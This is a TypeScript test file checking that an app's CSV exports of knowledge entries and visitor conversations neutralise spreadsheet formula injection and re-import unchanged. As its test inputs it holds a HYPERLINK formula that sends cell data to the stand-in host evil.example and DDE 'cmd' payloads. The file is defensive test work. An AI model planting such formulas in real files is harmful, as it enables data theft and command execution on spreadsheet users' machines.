import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../lib/csv.js';
import { startConsoleServer, type TOperatorSession } from '../../test/console.js';
import { EN, TEST_DIALECTS, type TestServer } from '../../test/harness.js';
import { addStore, askStore, storeOwnerOf } from '../../test/store-fixtures.js';

/** What a visitor may type to plant a live formula in someone's spreadsheet. */
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")';

/**
 * Texts starting with each character a spreadsheet reads as a formula start, and legitimate texts that start
 * with a quote or a minus: all must come back from export and import exactly as they were.
 */
const STARTS = [
  HYPERLINK,
  '+1+cmd|" /C calc"!A0',
  '-5 元优惠',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  "'quoted from the menu'",
  "'=already guarded",
  "''two quotes",
  '-',
  "'",
];

/** A field of written CSV text that a spreadsheet would run: it starts with a formula character. */
const liveFormulas = (csv: string) =>
  csv
    .replace(/^\uFEFF/, '')
    .split(/,|\r\n/)
    .map((cell) => cell.replace(/^"/, ''))
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell));

describe.each(TEST_DIALECTS)('CSV exports neutralise formulas on %s', (dialect) => {
  let server: TestServer;
  let operator: TOperatorSession;
  beforeAll(async () => {
    ({ server, owner: operator } = await startConsoleServer(dialect));
  });
  afterAll(() => server.close());

  const admin = (path: string) => server.data(`/api/admin/${path}`, operator.headers);
  const adminPost = (path: string, body: unknown) =>
    server.post(`/api/admin/${path}`, body, { ...EN, ...operator.headers });

  it("guards knowledge in the console's export, and its import gives back every text exactly", async () => {
    const store = await addStore(server, operator.headers);
    const entries = STARTS.map((text, index) => ({
      lang: 'en',
      question: text,
      answer: `${text} answer`,
      tags: text,
      weigh: 4 - index,
    }));
    for (const entry of entries) {
      expect((await adminPost('knowledge/add', { store_id: store.id, ...entry })).body.code).toBe(1);
    }
    const file = await admin(`knowledge/export?store_id=${store.id}`);
    expect(liveFormulas(file.content)).toEqual([]);
    expect(file.content).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"`);
    expect(file.content).toContain(`"'-5 元优惠"`);
    expect(file.content).toContain(`,"''=already guarded",`);
    expect(file.content).toContain(",'quoted from the menu',");

    const copy = await addStore(server, operator.headers);
    const imported = await adminPost('knowledge/import', {
      store_id: copy.id,
      csv: file.content,
      mode: 'replace',
    });
    expect(imported.body).toMatchObject({ code: 1, data: { imported: STARTS.length, failed: [] } });
    const list = await admin(`knowledge/index?store_id=${copy.id}&limit=50`);
    const back = list.list.map(({ lang, question, answer, tags, weigh }: Record<string, unknown>) => ({
      lang,
      question,
      answer,
      tags,
      weigh,
    }));
    expect(back).toEqual(entries);
    expect((await admin(`knowledge/export?store_id=${copy.id}`)).content).toBe(file.content);
  });

  it("guards a visitor's message in the console's and My store's conversation exports", async () => {
    const store = await addStore(server, operator.headers);
    await askStore(server, { storeuuid: store.storeuuid, question: HYPERLINK });
    await askStore(server, { storeuuid: store.storeuuid, question: '@SUM(1+1)*cmd|" /C calc"!A0' });
    const owner = await storeOwnerOf(server, store.id);
    const fromShop = await server.data('/api/shop/conversations/export', owner.headers);
    const fromConsole = await admin(`conversations/export?store_id=${store.id}`);
    for (const file of [fromShop, fromConsole]) {
      expect(liveFormulas(file.content)).toEqual([]);
      expect(file.content).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"`);
      const contents = parseCsv(file.content).map((record) => record[7]);
      expect(contents).toContain(HYPERLINK);
      expect(contents).toContain('@SUM(1+1)*cmd|" /C calc"!A0');
    }
  });
});
